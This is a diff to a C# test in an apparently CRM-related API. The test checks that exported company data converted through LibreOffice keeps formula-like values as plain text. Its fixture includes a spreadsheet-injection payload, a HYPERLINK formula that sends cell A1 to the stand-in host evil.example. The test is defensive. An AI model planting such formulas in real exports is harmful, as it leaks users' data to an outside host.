@@ -1,6 +1,7 @@
 using System.Diagnostics;
 using System.Net;
-using ClosedXML.Excel;
+using DocumentFormat.OpenXml.Packaging;
+using DocumentFormat.OpenXml.Spreadsheet;
 using OutlookCrm.Api.Data;
 using OutlookCrm.Api.Import;
 using OutlookCrm.Api.Tests.Import;
@@ -51,15 +52,17 @@ public abstract class ExportAtScaleTests : ApiTest
             Path.Combine(dir, "fromcsv"), Path.Combine(dir, "companies.csv"));
         Soffice(dir, "--convert-to", "csv:Text - txt - csv (StarCalc):44,34,76,1", "--outdir", Path.Combine(dir, "fromxlsx"), Path.Combine(dir, "companies.xlsx"));
 
-        using (var book = new XLWorkbook(Path.Combine(dir, "fromcsv", "companies.xlsx")))
+        var converted = Path.Combine(dir, "fromcsv", "companies.xlsx");
+        using (var doc = SpreadsheetDocument.Open(converted, false))
+            Assert.AreEqual(0, doc.WorkbookPart!.WorksheetParts.Sum(w => w.Worksheet.Descendants<CellFormula>().Count()), "LibreOffice made no formula of any cell");
+        using (var file = File.OpenRead(converted))
+        using (var sheet = new XlsxSource(file, null))
         {
-            var rows = book.Worksheet(1).RangeUsed()!.RowsUsed().ToList();
-            var evil = rows.Single(r => r.Cell(3).GetString().Contains("HYPERLINK"));
-            Assert.IsFalse(evil.Cell(3).HasFormula, "the formula is text");
-            StringAssert.Contains(evil.Cell(3).GetString(), "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")");
-            Assert.IsFalse(evil.Cell(12).HasFormula);
-            Assert.AreEqual("+33 1 00 00 00 00", evil.Cell(12).GetString(), "the phone reads as written, no apostrophe");
-            Assert.IsTrue(rows.Any(r => r.Cell(3).GetString().EndsWith("-2+3 Conseil") && !r.Cell(3).HasFormula));
+            var rows = sheet.Records().ToList();
+            var evil = rows.Single(r => r.Fields[2].Contains("HYPERLINK"));
+            StringAssert.Contains(evil.Fields[2], "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")", "the formula is kept as text");
+            Assert.AreEqual("+33 1 00 00 00 00", evil.Fields[11], "the phone reads as written, no apostrophe");
+            Assert.IsTrue(rows.Any(r => r.Fields[2].EndsWith("-2+3 Conseil")));
         }
         var fromXlsx = await File.ReadAllTextAsync(Path.Combine(dir, "fromxlsx", "companies.csv"));
         StringAssert.Contains(fromXlsx, "\"=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"Click\"\")\"", "xlsx text cells stay text");
